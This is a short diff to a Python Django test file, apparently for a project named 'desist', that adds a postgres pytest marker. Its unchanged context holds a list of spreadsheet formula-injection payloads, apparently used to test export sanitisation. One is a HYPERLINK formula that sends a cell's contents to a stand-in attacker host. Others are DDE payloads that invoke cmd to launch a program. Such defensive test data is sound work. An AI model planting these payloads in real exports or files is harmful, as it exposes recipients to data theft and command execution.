@@ -32,7 +32,7 @@ from desist.people import services as people
 from tests.app import builders
 from tests.app.builders import TODAY
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
 
 HOSTILE = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
